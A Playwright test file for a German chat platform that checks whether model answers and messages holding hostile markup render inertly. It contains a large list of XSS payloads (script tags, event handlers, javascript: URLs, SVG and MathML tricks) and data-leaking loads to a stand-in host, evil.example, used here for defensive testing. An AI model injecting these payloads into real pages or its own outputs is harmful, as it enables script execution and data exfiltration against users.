# SPDX-License-Identifier: EUPL-1.2
"""Hostile text as a model's answer, as a person's message and as a conversation's title, in real Chromium."""

import re
from collections.abc import Callable

import pytest
from playwright.sync_api import Page, expect

from genius_inference.testing import RunningServer
from tests.support.platform import Platform

from .conftest import sign_in

pytestmark = [pytest.mark.browser, pytest.mark.thorough]
OpenPage = Callable[..., Page]
_RUN = "window.top.ran=1"
_AWAY = "https://evil.example"
# Scripts, handlers and addresses; whatever would run sets `ran`, whatever would load asks a foreign host.
_SCRIPTS = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt src={_AWAY}/x.js></ScRiPt>",
    f"<img src=x onerror={_RUN}>",
    f'<img/src="x"/onerror={_RUN}>',
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f'<math><mi xlink:href="javascript:{_RUN}">x</mi></math>',
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    f'<iframe srcdoc="<script>{_RUN}</script>"></iframe>',
    f"<iframe src=javascript:{_RUN}></iframe>",
    f"<details open ontoggle={_RUN}>x</details>",
    f"<input autofocus onfocus={_RUN}>",
    f"<body onload={_RUN}>",
    f"<audio src=x onerror={_RUN}>",
    f'<noscript><p title="</noscript><img src=x onerror={_RUN}>">',
    f"<!--><img src=x onerror={_RUN}>-->",
    f"[a](javascript:{_RUN})",
    f"[a](JaVaScRiPt:{_RUN})",
    f"[a](data:text/html,<script>{_RUN}</script>)",
    f"$$\\href{{javascript:{_RUN}}}{{x}}$$",
    f"```mermaid\ngraph TD; A[<img src=x onerror={_RUN}>]\n```",
    "<form id=document><input id=cookie name=getElementById></form>",
    '<base href="https://evil.example/">',
    "<meta http-equiv=refresh content=0;url=https://evil.example/>",
)
_LOADS = (
    f"![x]({_AWAY}/?q=geheim)",
    f"![x][r]\n\n[r]: {_AWAY}/y.png",
    f"[![x]({_AWAY}/a.png)]({_AWAY})",
    f"<img src={_AWAY}/i.png>",
    f'<img srcset="{_AWAY}/a 1x">',
    f"<picture><source srcset={_AWAY}/b></picture>",
    f"<video poster={_AWAY}/p.png src={_AWAY}/v.mp4 autoplay></video>",
    f"<link rel=stylesheet href={_AWAY}/x.css>",
    f'<link rel="prefetch" href="{_AWAY}/?q=geheim">',
    f"<link rel=icon href={_AWAY}/favicon.ico>",
    f"<style>body{{background:url({_AWAY}/?q)}}</style>",
    f'<style>@import "{_AWAY}/x.css";</style>',
    f'<p style="background:url({_AWAY}/s)">x</p>',
    f"<iframe src={_AWAY}></iframe>",
    f"<object data={_AWAY}/o></object><embed src={_AWAY}/x.swf>",
    f'<svg><use href="{_AWAY}/u.svg#x"/><image href="{_AWAY}/i"/></svg>',
)
_AROUND = ("{}", "- {}", "> {}", "Text **{}** Text", "| a |\n|---|\n| {} |", "### {}")
PAYLOADS = [around.format(payload) for payload in (*_SCRIPTS, *_LOADS) for around in _AROUND]


@pytest.fixture
def page(open_page: OpenPage, platform_with_model: Platform, model_server: RunningServer) -> Page:
    model_server.clear()
    signed_in = open_page(platform_with_model)
    sign_in(signed_in, platform_with_model)
    return signed_in


def ask(page: Page, text: str) -> None:
    page.get_by_label("Ihre Nachricht").fill(text)
    page.keyboard.press("Enter")


def test_an_answer_is_inert_and_loads_nothing(page: Page, model_server: RunningServer) -> None:
    """OUT-01, OUT-02: 246 payloads, streamed in pieces of one byte; `open_page` fails on every foreign request."""
    assert len(PAYLOADS) >= 200
    model_server.script(answer="\n\n".join([*PAYLOADS, "Ende der Antwort"]), pieces=1)
    ask(page, f"<img src={_AWAY}/t.png onerror={_RUN}> Was gilt?")
    answer = page.locator("article.message--answer").last
    expect(answer.get_by_text("Ende der Antwort")).to_be_visible(timeout=90_000)
    here = page.url
    page.reload()
    expect(page.locator("article.message--answer").last.get_by_text("Ende der Antwort")).to_be_visible()
    assert page.url == here
    assert page.evaluate("window.ran") is None
    inside = page.locator("article.message").locator(
        "script,img,iframe,object,embed,video,audio,link,style,base,meta,form"
    )
    assert inside.count() == 0
    expect(page.get_by_role("link", name=re.compile("<img src=")).first).to_be_visible()
    model_server.clear()


def test_a_link_is_opened_on_purpose(page: Page, model_server: RunningServer) -> None:
    """OUT-03: the host is shown, a dialog comes first at each button of the mouse, no referrer goes along."""
    model_server.script(answer=f"Siehe [die Seite]({_AWAY}/?q=%C3%84%20%C3%B6%20geheim).")
    ask(page, "Wo steht das?")
    link = page.get_by_role("link", name="die Seite")
    expect(page.get_by_text("(evil.example)")).to_be_visible()
    for button in ("left", "middle"):
        link.click(button=button)
        dialog = page.get_by_role("dialog", name="Link zu einer anderen Internetseite")
        expect(dialog).to_contain_text("kodierten Text")
        go = dialog.get_by_role("link", name="Link öffnen")
        assert set((go.get_attribute("rel") or "").split()) >= {"noopener", "noreferrer"}
        page.keyboard.press("Escape")
        expect(dialog).to_have_count(0)
    assert len(page.context.pages) == 1
    assert page.locator('meta[name="referrer"]').get_attribute("content") == "no-referrer"
    model_server.clear()
